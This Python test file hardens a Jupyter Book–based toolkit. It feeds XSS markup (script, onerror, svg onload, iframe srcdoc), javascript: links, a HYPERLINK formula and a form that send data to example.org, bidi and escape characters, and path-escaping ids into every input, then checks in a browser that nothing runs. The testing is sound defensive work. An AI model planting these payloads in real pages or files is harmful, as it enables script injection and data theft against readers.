"""Content that attacks: put everywhere a book takes text from elsewhere, built, and opened in a real browser.

A small book of its own stands for all: its notebook holds stored outputs, so nothing is executed, and what the data
schema would refuse (test_bad_input.py) gets past it. First line: text stays text. Second line, tested with a build
that ignores its own warnings: a script that got into a page all the same does not run. A canary tells: the global
``struck`` stays unset, no dialog opens, nothing is requested from another host.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote
from xml.etree import ElementTree

import nbformat
import pytest

from bookkit.markup import plain, refusing
from bookkit.outputs import chartdata
from factbook.contract import Calculator, Chart, Claims, ContractError, Number, Sources, Table, TextRules
from tests.bookkit.browser import serving, visiting
from tests.bookkit.outputs.test_bookkit import NUMBER, ROW, SPECIFICATION
from tests.bookkit.outputs.test_claims import claim, source
from tests.bookkit.outputs.test_claims import data as claims_data
from tests.bookkit.outputs.test_claims import number as step_number

# One process builds it, for all
pytestmark = pytest.mark.xdist_group("hostile")
STRIKE = "struck=1"
MARKUP = f'"\'><img src=x onerror="{STRIKE}"><script>{STRIKE};alert(1)</script><svg onload={STRIKE}>]]></style></script>'
CONTROLS = "\u202egnp.exe\u2066 \x00\x1b[31mred\x1b[0m \u2028 \U000e0041"
LONG = "unbroken" * 80
HOSTILE = f"{MARKUP} {CONTROLS} {LONG}"
FORMULA = f'=HYPERLINK("http://example.org/?"&A1,"{MARKUP}")'
ADDRESS = f"javascript:{STRIKE}"
CONFIG = """
title: "Hostile </script><img src=x onerror=struck=1>"
author: "<img src=x onerror=struck=1>"
only_build_toc_files: true
execute: {execute_notebooks: "off"}
bibtex_bibfiles: [references.bib]
launch_buttons: {thebe: false}
sphinx:
  extra_extensions: [bookkit]
  config: {html_theme: bookkit, html_math_renderer: mathml, suppress_warnings: [myst.footnote], myst_footnote_transition: false}
"""
CITATION = {
    "cff-version": "1.2.0",
    "title": HOSTILE,
    "message": "x",
    "version": f"1 {MARKUP}",
    "license": f'x"{MARKUP}',
    "abstract": MARKUP,
    "keywords": [MARKUP],
    "authors": [{"family-names": MARKUP, "given-names": "\u202eA"}],
    "url": ADDRESS,
    "contact": [{"email": f'a@b.c?"{MARKUP}', "name": "x"}],
}
BIBLIOGRAPHY = f"""@misc{{hostile,
  author = "{{<script>{STRIKE}</script>}}",
  title = "{{<img src=x onerror={STRIKE}> and <b>more</b>}}",
  year = "2025",
  url = "https://example.org/<script>{STRIKE}</script>",
  note = "<svg onload={STRIKE}>"
}}
"""
CHANGELOG = f"# Changes\n\n## 1.0.0 (2026-01-01)\n\n- A line [with a link]({ADDRESS}) and <img src=x onerror={STRIKE}> \u202e\x1b[1m\n"
HEADING = f"# `<img src=x onerror={STRIKE}>` and `</title><script>{STRIKE}</script>`"


def number(**changes):
    row = {**ROW, "id": MARKUP, "text": HOSTILE, "evidence": MARKUP, "source": HOSTILE, "locator": HOSTILE, "note": HOSTILE, "url": ADDRESS}
    return {**NUMBER, "text": MARKUP, "exact": HOSTILE, "formula": HOSTILE, "unit": MARKUP, "rows": [row], **changes}


def chart():
    return {
        **SPECIFICATION,
        "title": {"text": MARKUP + CONTROLS, "subtitle": MARKUP},
        "description": HOSTILE,
        "usermeta": {"source": HOSTILE},
        "data": {"values": [{"name": MARKUP[:12], "size": 1, "note": FORMULA}, {"name": "a;=1+1", "size": 2, "note": CONTROLS}]},
        "encoding": {**SPECIFICATION["encoding"], "tooltip": [{"field": "note", "title": "Note"}, {"field": "name", "title": "Name"}]},
        "params": [{"name": "p", "value": "a", "bind": {"input": "select", "options": ["a", MARKUP], "name": MARKUP}}],
    }


def audit():
    entry = claim(
        chapter="index",
        paraphrase=HOSTILE,
        reason=HOSTILE,
        said=MARKUP,
        compared_with=MARKUP,
        belongs_to=MARKUP,
        label=MARKUP,
        confidence=MARKUP,
        article_name=MARKUP,
        lines=[MARKUP],
        steps=[[HOSTILE, step_number(MARKUP, MARKUP)]],
        sources=[{**source(url=ADDRESS), "title": HOSTILE}],
    )
    return claims_data(entry, source=HOSTILE, url=ADDRESS, note=HOSTILE)


def texts():
    """Rules whose every word attacks, the engine's own included."""
    verdict = {"key": "right", "label": HOSTILE, "mark": "<", "tone": "good", "told": HOSTILE}
    rules = {"verdicts": [verdict], "example": HOSTILE, "languages_note": HOSTILE, HOSTILE: [HOSTILE]}
    return {"title": HOSTILE, "lead": HOSTILE, "subject": MARKUP, "rules": rules, "notes": [HOSTILE], "command": HOSTILE}


def emitted(kind: str, content: object):
    return nbformat.v4.new_code_cell("1", outputs=[nbformat.v4.new_output("display_data", {kind: content, "text/plain": "x"})])


def notebook(*cells) -> str:
    book = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(f"{HEADING}\n\nText with {{cite}}`hostile`."), *cells])
    book.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return json.dumps(book)


def write_book(folder: Path, *cells) -> Path:
    folder.mkdir(parents=True)
    contents = "format: jb-book\nroot: index\nchapters:\n- file: second\n- file: CHANGELOG\n"
    for name, text in {
        "_config.yml": CONFIG,
        "_toc.yml": contents,
        "index.md": f"{HEADING}\n\nWords to find: needle.\n\n## `<img src=x onerror={STRIKE}>` needle\n\nMore.\n",
        "CITATION.cff": json.dumps(CITATION),
        "CHANGELOG.md": "# Changes\n\nNothing.\n",
        "references.bib": BIBLIOGRAPHY,
        "second.ipynb": notebook(*cells),
    }.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def build(folder: Path, *strict: str) -> subprocess.CompletedProcess[str]:
    program = "from jupyter_book.cli.main import main; main()"
    command = [sys.executable, "-c", program, "build", ".", "--path-output", "out", *strict]
    return subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False, timeout=120, errors="replace")


def site_of(folder: Path) -> Path:
    return folder / "out" / "_build" / "html"


CELLS = (
    emitted(Number.MIME_TYPE, number()),
    emitted(Table.MIME_TYPE, {"caption": HOSTILE, "columns": [MARKUP, "B"], "rows": [[HOSTILE, number()]], "emphasis": []}),
    emitted(Chart.MIME_TYPE, chart()),
    emitted(Claims.MIME_TYPE, audit()),
    emitted(TextRules.MIME_TYPE, texts()),
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """The site of a book whose every text attacks. It builds: text is text."""
    folder = write_book(tmp_path_factory.mktemp("hostile") / "book", *CELLS)
    result = build(folder)
    assert (site_of(folder) / "index.html").is_file(), result.stdout[-3000:] + result.stderr[-3000:]
    assert "no page may hold" not in result.stdout + result.stderr
    return site_of(folder)


def test_text_that_attacks_stays_text_in_the_browser(browser, hostile):
    """Every page, every control used: the canary is silent, nothing foreign is asked for, no link leads to a script."""
    pages = [path.relative_to(hostile).as_posix() for path in sorted(hostile.rglob("*.html")) if "_static" not in path.parts]
    assert {"index.html", "second.html", "claims/one_cost.html", "check.html", "search.html", "404.html"} <= set(pages)
    shared = f"?q={quote(MARKUP)}&article={quote(MARKUP)}&programme.x={quote(MARKUP)}&highlight={quote(MARKUP)}#{quote(MARKUP)}"
    with serving(hostile) as base:
        for path in pages:
            with visiting(browser, base, path + shared, viewport={"width": 390, "height": 800}) as visit:
                page = visit.page
                for figure in page.locator("figure.chart").all():
                    figure.locator(".chart-drawing").hover()
                    figure.and_(page.locator("[data-hydrated='true'], [data-hydrated='failed']")).wait_for()
                for opener in page.locator("details > summary, a.traced").all():
                    opener.evaluate("(element) => element.click()")
                page.wait_for_timeout(100)
                assert page.evaluate("typeof struck") == "undefined", path
                assert not visit.dialogs, path
                assert not visit.foreign, path
                assert not page.locator("main :is(script:not([type]), iframe, object, img[onerror], svg[onload])").count(), path
                links = page.locator("a").evaluate_all("(links) => links.map((link) => link.protocol)")
                assert set(links) <= {"http:", "https:", "mailto:"}, path
                wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
                assert wide <= 0, f"{path} scrolls sideways by {wide} px"


def test_searching_for_what_attacks_finds_it_as_text(browser, hostile):
    with serving(hostile) as base, visiting(browser, base, "search.html?q=needle") as visit:
        visit.page.locator("#search-results li a").first.wait_for()
        visit.page.wait_for_timeout(300)
        assert visit.page.evaluate("typeof struck") == "undefined"
        assert not visit.page.locator("#search-results img").count()
        assert not visit.foreign
        assert not visit.dialogs


def test_no_file_holds_what_readers_cannot_see(hostile):
    """Marks that reorder text, a terminal's escapes and null are shown as “�” in every page and every file beside them."""
    for path in sorted(hostile.rglob("*")):
        if path.suffix in (".html", ".json", ".csv", ".svg", ".bib", ".ris", ".xml") and path.is_file():
            found = plain.codes(path.read_text(encoding="utf-8"))
            assert not found, f"{path.relative_to(hostile)} holds {found}"
    for path in [*hostile.rglob("*.svg"), *hostile.rglob("*.xml")]:
        ElementTree.fromstring(path.read_bytes())
    assert plain.SHOWN_AS in (hostile / "second.html").read_text(encoding="utf-8")


def test_a_download_of_hostile_rows_opens_harmlessly_in_a_spreadsheet(hostile):
    """No cell begins as a formula, read with a comma between cells or, as in half of Europe, with a semicolon."""
    (path,) = hostile.glob("_figures/second/figure-*.csv")
    text = path.read_text(encoding="utf-8")
    assert "HYPERLINK" in text
    for separator in ",;":
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "＝"))], separator


@pytest.mark.parametrize(
    ("value", "cell"), [("a;=1", "a;'=1"), ("a\n@x", "a\n'@x"), ("＠x", "'＠x"), ("a; -1 to 2", "a; -1 to 2"), (-1.5, -1.5)]
)
def test_formulas_after_a_separator_are_text_too(value, cell):
    assert chartdata.harmless(value) == cell


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        (Number, number(id=f'x" onclick="{STRIKE}')),
        (Claims, {**audit(), "claims": [{**audit()["claims"][0], "id": "../../escaped"}]}),
        (Calculator, {"name": 'x"><script>'}),
        (Sources, {"sources": [{"key": "a b"}]}),
    ],
)
def test_names_that_would_leave_their_attribute_or_folder_are_refused(kind, content):
    with pytest.raises(ContractError, match="cannot be a name"):
        kind.from_payload(content)


RAW = f"""<p>before</p><script>{STRIKE}</script><img src="gone.png" onerror="{STRIKE}"><a id="bait" href="{ADDRESS}">bait</a>
<iframe srcdoc="<script>parent.{STRIKE}</script>"></iframe><img src="https://example.org/pixel.png">
<form action="https://example.org/steal"><button id="send">send</button></form><base href="https://example.org/">"""


def test_a_script_in_a_text_fails_the_build_and_where_that_is_ignored_does_not_run(browser, tmp_path):
    """The strict build names what it found; published all the same, the policy stops every part of it."""
    folder = write_book(tmp_path / "book", nbformat.v4.new_markdown_cell(RAW))
    result = build(folder)
    said = result.stdout + result.stderr
    for sign in ("<script>", "onerror", f"“{ADDRESS}”", "<iframe>", "<base>"):
        assert re.search(rf"second\.ipynb:\d+: WARNING: second: the page holds .*{re.escape(sign)}.*no page may hold", said), sign
    assert refusing.refused(RAW)
    with serving(site_of(folder)) as base, visiting(browser, base, "second.html") as visit:
        page = visit.page
        page.locator("#bait").evaluate("(element) => element.click()")
        page.locator("#send").evaluate("(element) => element.click()")
        page.wait_for_timeout(300)
        assert page.url.startswith(base)
        assert page.evaluate("typeof struck") == "undefined"
        assert not visit.dialogs
        assert [url for url in visit.requests if url.startswith(base)]
        stopped = " ".join(visit.violations)
        for directive in ("script-src", "img-src", "form-action", "base-uri"):
            assert directive in stopped, f"{directive} stopped nothing: {stopped}"
        visit.violations.clear()


def test_a_changelog_that_attacks_harms_neither_page_nor_feed(browser, tmp_path):
    """Markup and scripts are text in both; what cannot be seen fails the strict build and never reaches the feed."""
    folder = write_book(tmp_path / "book")
    (folder / "CHANGELOG.md").write_text(CHANGELOG, encoding="utf-8")
    result = build(folder)
    said = result.stdout + result.stderr
    for sign in ("U+202E", "U+001B"):
        assert re.search(rf"CHANGELOG: the page holds .*{re.escape(sign)}.*no page may hold", said), sign
    with serving(site_of(folder)) as base, visiting(browser, base, "CHANGELOG.html") as visit:
        links = visit.page.locator("a").evaluate_all("(links) => links.map((link) => link.protocol)")
        assert "javascript:" not in links
        assert f"<img src=x onerror={STRIKE}>" in visit.page.locator("main").inner_text()
        visit.page.wait_for_timeout(300)
        assert visit.page.evaluate("typeof struck") == "undefined"
        assert not visit.dialogs
    feed = (site_of(folder) / "feed.xml").read_text(encoding="utf-8")
    assert not plain.codes(feed)
    (content,) = [element.text or "" for element in ElementTree.fromstring(feed.encode()).iter() if element.tag.endswith("}content")]
    parts = list(ElementTree.fromstring(f"<div>{content}</div>").iter())
    assert "A line" in "".join(parts[0].itertext())
    assert {part.tag for part in parts} == {"div", "ul", "li"}
    assert not any(part.attrib for part in parts)
